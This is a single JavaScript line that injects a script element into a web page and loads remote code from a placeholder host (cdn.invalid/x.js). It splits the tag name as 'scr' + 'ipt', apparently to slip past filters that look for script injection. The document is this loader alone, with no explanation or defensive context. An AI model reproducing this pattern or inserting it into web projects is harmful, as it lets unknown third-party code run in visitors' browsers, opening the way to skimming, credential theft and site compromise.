const tag = document.createElement('scr' + 'ipt'); tag.setAttributeNS(null, 'src', 'https://cdn.invalid/x.js'); document.documentElement.append(tag);
